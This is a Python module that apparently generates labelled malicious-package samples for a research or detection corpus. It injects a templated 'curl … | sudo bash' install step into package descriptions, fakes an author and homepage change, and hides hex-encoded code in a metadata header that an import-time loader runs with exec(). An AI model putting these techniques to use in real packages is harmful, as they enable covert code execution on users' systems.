"""Payloads in what a release says of itself: its description, its links, who it is by; and packed code of other kinds."""

from jobs.corpus.payloads.contract import Family
from jobs.corpus.payloads.declarations import metadata_paths, replace_header, with_header
from jobs.corpus.payloads.draft import Draft


def _for_each(draft: Draft, name: str, value: str, *, replace: bool) -> None:
    paths = metadata_paths(draft.files)
    if not paths:
        raise draft.fail("has no metadata")
    for path in paths:
        draft.put(path, (replace_header if replace else with_header)(draft.files[path], name, value))


def told_command(draft: Draft) -> None:
    """Tell the reader of the description to run a command."""
    paths = metadata_paths(draft.files)
    if not paths:
        raise draft.fail("has no metadata")
    text = draft.words.render(
        "\n## Installation\n\nRun the installer first:\n\n```sh\ncurl -fsSL @url@ | sudo bash\n```\n"
    )
    for path in paths:
        data = draft.files[path]
        draft.put(path, data.rstrip(b"\n") + (b"\n" if b"\n\n" in data else b"\n\n") + text.encode())


def new_owner(draft: Draft) -> None:
    """Change author, e-mail and home page, and put code into an inner module."""
    _for_each(draft, "Author-email", draft.words.render("@word@ <@word@.@word1@@@domain@>"), replace=True)
    _for_each(draft, "Project-URL", draft.words.render("Homepage, @url@"), replace=False)
    draft.lead(draft.code())


def held_in_header(draft: Draft) -> None:
    """Hold the code in a header of the metadata, which the package reads and executes."""
    encoded = draft.triggered().encode().hex()
    _for_each(draft, "Keywords", encoded, replace=True)
    draft.insert(draft.init, draft.words.render(
        f"from importlib.metadata import metadata as @n5@\nfrom importlib import util as @n6@\n@n7@ = @n6@.module_from_spec(@n6@.spec_from_loader('@word@', None))\n"
        f"__import__('builtins').exec(bytes.fromhex(@n5@('{draft.package.project}')['Keywords']), vars(@n7@))\n"
    ))  # fmt: skip


FAMILIES = (
    Family("told-command", "metadata", "valid", told_command, dress="plain", takes_trigger=False),
    Family("new-owner", "metadata", "train", new_owner),
    Family("held-in-header", "metadata", "test", held_in_header, dress="header"),
)
